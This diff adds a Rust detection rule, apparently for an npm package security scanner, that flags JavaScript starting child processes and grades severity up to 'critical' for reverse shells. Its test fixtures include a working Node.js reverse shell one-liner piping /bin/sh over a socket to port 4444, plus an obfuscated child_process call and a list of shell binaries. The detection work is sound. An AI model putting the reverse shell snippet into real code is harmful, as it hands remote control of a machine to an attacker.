@@ -1,0 +1,75 @@
+//! Rule `child-process`.
+
+use crate::model::Severity;
+use crate::package::Package;
+use crate::rules::{Emitter, code_files};
+
+crate::declare_rule! {
+    /// The code starts other programs (child_process exec/spawn/fork, execa, cross-spawn). Normal
+    /// in build tools and CLIs (`low` there), worth a look in library code, `high` at install
+    /// time, and `critical` when a shell is wired to a network socket (a reverse shell).
+    id: "child-process",
+    category: Exec,
+    severity: Medium,
+    capability: Some(crate::model::Capability::ChildProcess),
+    title: "starts child processes",
+    incident: "ethers-provider2 (2025) piped /bin/sh to a net.Socket; coa/ua-parser-js (2021) ran droppers via child_process",
+    case_file: "lib/index.js",
+    flag: ["const cp = require('child_' + 'process'); cp.exec(cmd)",
+           "import { spawn } from 'node:child_process'; spawn('sh', ['-c', x])",
+           "const net = require('net'); const {spawn} = require('child_process'); const c = new net.Socket(); c.connect(4444, h, () => { const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });"],
+    pass: ["const cp = { exec() {} }; cp.exec('x')", "// require('child_process').exec(x)", "const s = 'child_process.exec is documented here'"],
+}
+
+const SHELLS: &[&str] = &[
+    "/bin/sh",
+    "/bin/bash",
+    "sh",
+    "bash",
+    "cmd.exe",
+    "cmd",
+    "powershell",
+    "powershell.exe",
+    "pwsh",
+    "/bin/zsh",
+    "zsh",
+];
+
+fn check(pkg: &Package, out: &mut Emitter) {
+    for f in code_files(pkg) {
+        let Some(js) = &f.js else { continue };
+        let Some(call) = js.calls.iter().find(|c| super::is_spawn(&c.path)) else {
+            continue;
+        };
+        let socket = js.calls.iter().any(|c| {
+            matches!(
+                c.path.as_str(),
+                "net.Socket" | "net.connect" | "net.createConnection" | "tls.connect"
+            )
+        }) && (js.calls.iter().any(|c| {
+            super::is_spawn(&c.path) && c.arg_lit(0).is_some_and(|a| SHELLS.contains(&a))
+        }) || crate::rules::all_text(f).contains("/bin/sh"));
+        let (sev, msg) = if socket {
+            (
+                Severity::Critical,
+                "starts a shell wired to a network socket (reverse shell)".to_string(),
+            )
+        } else if pkg.is_install_file(f) {
+            (
+                Severity::High,
+                format!("code run at install time starts processes ({})", call.path),
+            )
+        } else if pkg.is_tool_file(f) {
+            (
+                Severity::Low,
+                format!("command-line code starts processes ({})", call.path),
+            )
+        } else {
+            (
+                Severity::Medium,
+                format!("starts processes ({})", call.path),
+            )
+        };
+        out.hit_sev(sev, pkg, f, call.off, msg);
+    }
+}
